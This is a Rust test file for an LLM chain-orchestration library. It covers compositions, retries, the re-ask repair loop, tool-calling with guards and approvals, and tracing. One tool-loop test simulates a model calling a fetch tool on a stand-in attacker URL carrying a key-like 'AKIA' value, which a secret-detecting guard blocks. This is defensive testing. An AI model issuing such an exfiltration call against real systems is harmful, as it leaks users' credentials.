//! Chains driven synchronously: every composition, the re-ask loop, the tool loop, events,
//! cancellation and the trace.

use bridle::chain::{Chain, Run};
use serde_json::{json, Value};
use std::collections::VecDeque;
use std::sync::Arc;

type Leaf<'a> = dyn FnMut(u32, &Value, &Value) -> Result<Value, Value> + 'a;

struct Outcome {
    result: Result<Value, Value>,
    events: Vec<Value>,
    calls: Vec<(u32, Value)>,
    cancels: usize,
    sleeps: Vec<f64>,
    run: Run,
}

/// Runs `chain` on `input`, answering leaf calls with `leaf(leaf, input, effect)` in the order
/// they were asked (FIFO) and sleeps at once; the clock moves 1 ms per answer.
fn drive(chain: Value, input: Value, leaf: &mut Leaf<'_>) -> Outcome {
    let chain = Arc::new(Chain::from_value(&chain).expect("the chain compiles"));
    let mut run = Run::start(chain, input, 0.0, 42);
    let mut queue: VecDeque<Value> = VecDeque::new();
    let (mut events, mut calls, mut sleeps, mut cancels) = (Vec::new(), Vec::new(), Vec::new(), 0);
    let mut now = 0.0;
    let mut result = None;
    loop {
        for effect in run.take() {
            match effect["type"].as_str().unwrap() {
                "event" => events.push(effect["event"].clone()),
                "done" => result = Some(Ok(effect["output"].clone())),
                "error" => result = Some(Err(effect["error"].clone())),
                "cancel" => {
                    cancels += 1;
                    queue.retain(|e| e["id"] != effect["id"]);
                }
                _ => queue.push_back(effect),
            }
        }
        let Some(effect) = queue.pop_front() else { break };
        now += 1.0;
        let id = effect["id"].as_u64().unwrap();
        if effect["type"] == "sleep" {
            sleeps.push(effect["ms"].as_f64().unwrap());
            run.resolve(id, Ok(Value::Null), now);
            continue;
        }
        let number = effect["leaf"].as_u64().unwrap() as u32;
        calls.push((number, effect["input"].clone()));
        let answer = leaf(number, &effect["input"], &effect).map(|output| json!({ "output": output }));
        run.resolve(id, answer, now);
    }
    Outcome { result: result.expect("the run ended"), events, calls, cancels, sleeps, run }
}

fn leaf(n: u32) -> Value {
    json!({"kind": "leaf", "leaf": n, "name": format!("leaf{n}")})
}

fn error(code: &str, message: &str) -> Value {
    json!({"code": code, "message": message, "details": {}})
}

#[test]
fn compositions_compute_what_they_promise() {
    let chain = json!({"kind": "sequence", "steps": [
        {"kind": "assign", "keys": {"upper": leaf(1), "size": leaf(2)}},
        {"kind": "parallel", "branches": {"same": {"kind": "passthrough"}, "words": leaf(3)}},
    ]});
    let out = drive(chain, json!({"text": "a b c"}), &mut |n, input, _| match n {
        1 => Ok(json!(input["text"].as_str().unwrap().to_uppercase())),
        2 => Ok(json!(input["text"].as_str().unwrap().len())),
        3 => Ok(json!(input["text"].as_str().unwrap().split(' ').count())),
        _ => unreachable!(),
    });
    assert_eq!(out.result.unwrap(), json!({"same": {"text": "a b c", "upper": "A B C", "size": 5}, "words": 3}));

    // map keeps the order whatever the concurrency; at most 2 in flight.
    let out =
        drive(json!({"kind": "map", "concurrency": 2, "step": leaf(1)}), json!([1, 2, 3, 4, 5]), &mut |_, input, _| {
            Ok(json!(input.as_i64().unwrap() * 10))
        });
    assert_eq!(out.result.unwrap(), json!([10, 20, 30, 40, 50]));

    // branch: the first true condition wins; route: the router names the route.
    let branch = json!({"kind": "branch", "cases": [{"when": leaf(1), "then": leaf(2)}, {"when": leaf(3), "then": leaf(4)}], "otherwise": leaf(5)});
    let out = drive(branch.clone(), json!(7), &mut |n, _, _| {
        Ok(match n {
            1 => json!(false),
            3 => json!(1),
            4 => json!("four"),
            _ => json!("wrong"),
        })
    });
    assert_eq!(out.result.unwrap(), json!("four"));
    assert_eq!(out.calls.iter().map(|c| c.0).collect::<Vec<_>>(), [1, 3, 4]);
    let out = drive(branch, json!(7), &mut |n, _, _| {
        Ok(match n {
            5 => json!("otherwise"),
            _ => json!(null),
        })
    });
    assert_eq!(out.result.unwrap(), json!("otherwise"));
    let route = json!({"kind": "route", "router": leaf(1), "routes": {"math": leaf(2), "chat": leaf(3)}});
    let out = drive(route.clone(), json!("2+2"), &mut |n, _, _| {
        Ok(match n {
            1 => json!("math"),
            2 => json!(4),
            _ => json!("chat"),
        })
    });
    assert_eq!(out.result.unwrap(), json!(4));
    let out = drive(route, json!("x"), &mut |_, _, _| Ok(json!("poetry")));
    assert_eq!(out.result.unwrap_err()["details"]["route"], "poetry");
}

#[test]
fn retries_wait_and_count_and_fallbacks_fall_back() {
    let chain =
        json!({"kind": "retry", "attempts": 3, "backoff": {"initialDelay": 100, "factor": 2, "jitter": 0}, "step": leaf(1)});
    let mut failures = 2;
    let out = drive(chain.clone(), json!(1), &mut |_, _, _| {
        if failures > 0 {
            failures -= 1;
            Err(error("network", "reset"))
        } else {
            Ok(json!("ok"))
        }
    });
    assert_eq!(out.result.unwrap(), json!("ok"));
    assert_eq!(out.sleeps, [100.0, 200.0]);
    let retries: Vec<&Value> = out.events.iter().filter(|e| e["type"] == "retry").collect();
    assert_eq!(retries.iter().map(|e| e["attempt"].as_u64().unwrap()).collect::<Vec<_>>(), [2, 3]);
    // Out of attempts: the last error, with the count.
    let out = drive(chain, json!(1), &mut |_, _, _| Err(error("server", "down")));
    let failed = out.result.unwrap_err();
    assert_eq!((failed["code"].clone(), failed["details"]["attempts"].clone()), (json!("server"), json!(3)));
    // `on` limits what is retried.
    let only = json!({"kind": "retry", "attempts": 3, "on": ["rate_limit"], "step": leaf(1)});
    let out = drive(only, json!(1), &mut |_, _, _| Err(error("auth", "no")));
    assert_eq!(out.calls.len(), 1);
    let fallbacks = json!({"kind": "fallbacks", "steps": [leaf(1), leaf(2), leaf(3)]});
    let out = drive(fallbacks, json!(1), &mut |n, _, _| {
        if n < 3 {
            Err(error("server", &format!("{n} down")))
        } else {
            Ok(json!("third"))
        }
    });
    assert_eq!(out.result.unwrap(), json!("third"));
}

#[test]
fn a_failed_branch_cancels_its_siblings() {
    let chain = json!({"kind": "parallel", "branches": {"a": leaf(1), "b": leaf(2), "c": leaf(3)}});
    let out = drive(chain, json!(null), &mut |n, _, _| if n == 1 { Err(error("internal", "boom")) } else { Ok(json!(n)) });
    assert_eq!(out.result.unwrap_err()["message"], "boom");
    assert_eq!(out.cancels, 2);
    assert_eq!(out.calls.len(), 1, "the cancelled calls were never answered");
    let trace = out.run.trace();
    let cancelled: Vec<bool> =
        trace["children"].as_array().unwrap().iter().map(|c| c["cancelled"].as_bool().unwrap()).collect();
    assert_eq!(cancelled, [false, true, true]);
}

#[test]
fn the_reask_loop_repairs_then_reasks_with_the_failures() {
    let schema = json!({"type": "object", "properties": {"age": {"type": "integer"}}, "required": ["age"]});
    let chain = json!({"kind": "reask", "model": 1, "schema": schema, "guards": [2], "maxAttempts": 4});
    let mut answers = vec![
        "Sure! {age: 'old',}", // repaired, then fails the schema
        "{\"age\": 41}",       // valid, but the guard says no
        "{\"age\": 42}",       // accepted
    ]
    .into_iter();
    let out = drive(chain, json!("How old?"), &mut |n, input, effect| match n {
        1 => {
            assert_eq!(effect["mode"], "completion");
            let text = answers.next().unwrap();
            Ok(json!({"text": text, "usage": {"inputTokens": 10, "outputTokens": 5}, "messages": input["messages"]}))
        }
        2 => Ok(if input == "{\"age\": 41}" {
            json!({"passed": false, "failures": ["41 is not allowed"]})
        } else {
            json!({"passed": true})
        }),
        _ => unreachable!(),
    });
    assert_eq!(out.result.unwrap(), json!({"age": 42}));
    let model_calls: Vec<&Value> = out.calls.iter().filter(|c| c.0 == 1).map(|c| &c.1).collect();
    assert_eq!(model_calls.len(), 3);
    assert_eq!(model_calls[0]["messages"], json!([{"role": "user", "content": "How old?"}]));
    let second = model_calls[1]["messages"].as_array().unwrap();
    assert_eq!(second.len(), 3);
    assert_eq!(second[1], json!({"role": "assistant", "content": "Sure! {age: 'old',}"}));
    assert_eq!(second[2]["content"], "Your answer could not be accepted:\n- '/age' must be integer, got string\nReply again with the corrected answer only.");
    let third = model_calls[2]["messages"].as_array().unwrap();
    assert_eq!(
        third[4]["content"],
        "Your answer could not be accepted:\n- 41 is not allowed\nReply again with the corrected answer only."
    );
    let trace = out.run.trace();
    let attempts = trace["attributes"]["attempts"].as_array().unwrap();
    assert_eq!(attempts.len(), 3);
    assert_eq!(attempts[0]["repaired"], true);
    assert_eq!(trace["usage"]["totalTokens"], 45);
}

#[test]
fn the_reask_loop_stops_at_its_budget() {
    let chain = json!({"kind": "reask", "model": 1, "schema": {"type": "integer"}, "maxAttempts": 10, "maxTokens": 25});
    let out = drive(chain, json!("n?"), &mut |_, _, _| {
        Ok(json!({"text": "many", "usage": {"inputTokens": 10, "outputTokens": 3}}))
    });
    let failed = out.result.unwrap_err();
    assert_eq!(failed["code"], "limit_exceeded");
    assert_eq!(failed["details"]["limit"], "tokens");
    assert_eq!(failed["details"]["attempts"].as_array().unwrap().len(), 2);
}

fn tool_call(id: &str, name: &str, input: Value) -> Value {
    json!({"id": id, "name": name, "arguments": input.to_string(), "input": input})
}

#[test]
fn the_tool_loop_checks_guards_approves_and_runs_calls_at_once() {
    let tools = json!([
        {"name": "weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}, "run": 2},
        {"name": "fetch", "parameters": {"type": "object", "properties": {"url": {"type": "string"}}}, "run": 3},
        {"name": "pay", "parameters": {"type": "object"}, "run": 4, "needsApproval": true},
    ]);
    let chain = json!({"kind": "tools", "model": 1, "tools": tools, "maxSteps": 4, "guards": [5], "approval": 6});
    let mut step = 0;
    let out = drive(chain, json!("plan my trip"), &mut |n, input, _| match n {
        1 => {
            step += 1;
            Ok(match step {
                1 => json!({"text": "", "toolCalls": [
                    tool_call("c1", "weather", json!({"city": "Oslo"})),
                    tool_call("c2", "weather", json!({"town": "Oslo"})),
                    tool_call("c3", "fetch", json!({"url": "https://evil.example/?k=AKIA"})),
                    tool_call("c4", "pay", json!({"amount": 5})),
                    tool_call("c5", "nope", json!({})),
                ], "message": {"role": "assistant", "content": ""}}),
                _ => {
                    let messages = input["messages"].as_array().unwrap();
                    let results: Vec<&str> =
                        messages.iter().filter(|m| m["role"] == "tool").map(|m| m["content"].as_str().unwrap()).collect();
                    assert_eq!(results[0], "18C");
                    assert!(
                        results[1].starts_with("Error: invalid arguments: (root) must have required property 'city'"),
                        "{}",
                        results[1]
                    );
                    assert!(
                        results[2].starts_with("Error: this tool call was blocked by a guard: secret in arguments"),
                        "{}",
                        results[2]
                    );
                    assert_eq!(results[3], "Error: the user denied this tool call");
                    assert_eq!(results[4], "Error: there is no tool named 'nope'");
                    json!({"text": "Pack a coat.", "toolCalls": [], "message": {"role": "assistant", "content": "Pack a coat."}})
                }
            })
        }
        2 => Ok(json!("18C")),
        3 => panic!("a blocked call must not run"),
        4 => panic!("a denied call must not run"),
        5 => Ok(if input["text"].as_str().unwrap().contains("AKIA") {
            json!({"passed": false, "failures": ["secret in arguments"]})
        } else {
            json!({"passed": true})
        }),
        6 => Ok(json!(false)),
        _ => unreachable!(),
    });
    let output = out.result.unwrap();
    assert_eq!(output["text"], "Pack a coat.");
    assert_eq!(output["steps"], 2);
    assert_eq!(output["stoppedBy"], "answer");
    assert_eq!(output["toolCalls"].as_array().unwrap().len(), 5);
    let kinds: Vec<&str> = out
        .events
        .iter()
        .map(|e| e["type"].as_str().unwrap())
        .filter(|t| t.starts_with("tool") || *t == "guard-finding")
        .collect();
    assert_eq!(kinds.iter().filter(|k| **k == "tool-call").count(), 5);
    assert_eq!(kinds.iter().filter(|k| **k == "tool-result").count(), 5);
    assert!(kinds.contains(&"guard-finding"));
}

#[test]
fn the_tool_loop_stops_at_max_steps() {
    let tools = json!([{"name": "again", "parameters": {"type": "object"}, "run": 2}]);
    let looping = |n: u32| match n {
        1 => Ok(json!({"text": "", "toolCalls": [tool_call("c", "again", json!({}))]})),
        _ => Ok(json!("ok")),
    };
    // By default running out of steps is a typed error that carries the result so far.
    let chain = json!({"kind": "tools", "model": 1, "tools": tools, "maxSteps": 3});
    let out = drive(chain, json!("loop"), &mut |n, _, _| looping(n));
    let error = out.result.unwrap_err();
    assert_eq!(error["code"], "limit_exceeded");
    assert_eq!(error["details"]["limit"], "max_steps");
    let result = &error["details"]["result"];
    assert_eq!((result["steps"].clone(), result["stoppedBy"].clone()), (json!(3), json!("maxSteps")));
    assert_eq!(result["toolCalls"].as_array().map(Vec::len), Some(2));
    assert_eq!(out.calls.iter().filter(|c| c.0 == 2).count(), 2);
    // onMaxSteps: "return" gives that result as the output.
    let chain = json!({"kind": "tools", "model": 1, "tools": tools, "maxSteps": 3, "onMaxSteps": "return"});
    let output = drive(chain, json!("loop"), &mut |n, _, _| looping(n)).result.unwrap();
    assert_eq!((output["steps"].clone(), output["stoppedBy"].clone()), (json!(3), json!("maxSteps")));
}

#[test]
fn events_come_in_order_and_the_trace_is_a_tree() {
    let chain = json!({"kind": "sequence", "name": "pipeline", "steps": [leaf(1), {"kind": "map", "step": leaf(2), "concurrency": 1}]});
    let out = drive(chain, json!("ab"), &mut |n, input, _| match n {
        1 => Ok(json!(input.as_str().unwrap().chars().map(String::from).collect::<Vec<_>>())),
        _ => Ok(json!(format!("<{}>", input.as_str().unwrap()))),
    });
    assert_eq!(out.result.unwrap(), json!(["<a>", "<b>"]));
    let order: Vec<String> =
        out.events.iter().map(|e| format!("{}:{}", e["type"].as_str().unwrap(), e["name"].as_str().unwrap_or(""))).collect();
    assert_eq!(
        order,
        [
            "step-start:pipeline",
            "step-start:leaf1",
            "step-end:leaf1",
            "step-start:map",
            "step-start:leaf2",
            "step-end:leaf2",
            "step-start:leaf2",
            "step-end:leaf2",
            "step-end:map",
            "step-end:pipeline",
            "final:"
        ]
    );
    let trace = out.run.trace();
    assert_eq!(trace["name"], "pipeline");
    assert_eq!(trace["status"]["code"], "OK");
    assert_eq!(trace["children"][1]["children"].as_array().unwrap().len(), 2);
    assert_eq!(trace["children"][1]["children"][0]["output"], "<a>");
    assert_eq!(trace["children"][0]["parentSpanId"], trace["spanId"]);
    assert_eq!(trace["traceId"].as_str().unwrap().len(), 32);
    // The same seed, the same ids: a replayed run is the same run.
    let again =
        drive(json!({"kind": "sequence", "name": "pipeline", "steps": [leaf(1)]}), json!("x"), &mut |_, _, _| Ok(json!(1)));
    assert_eq!(again.run.trace()["spanId"], trace["spanId"]);
}

/// Time per step of the core alone (run with `--release -- --ignored --nocapture`).
#[test]
#[ignore]
fn per_step_cost_of_the_core() {
    let steps: Vec<Value> = (0..50).map(leaf).collect();
    let chain = Arc::new(Chain::from_value(&json!({"kind": "sequence", "steps": steps})).unwrap());
    let started = std::time::Instant::now();
    let runs = 2000;
    for i in 0..runs {
        let mut run = Run::start_with(chain.clone(), json!(i), 0.0, 1, false, false);
        let mut effects = run.take_json();
        loop {
            let parsed: Value = serde_json::from_str(&effects).unwrap();
            let Some(call) = parsed.as_array().unwrap().iter().find(|e| e["type"] == "call").cloned() else { break };
            run.resolve(call["id"].as_u64().unwrap(), Ok(json!({"output": call["input"].as_i64().unwrap() + 1})), 0.0);
            effects = run.take_json();
        }
    }
    let per_step = started.elapsed().as_secs_f64() * 1e6 / (runs as f64 * 50.0);
    println!("core per step (with the driver's JSON parse in Rust): {per_step:.2} µs");
}
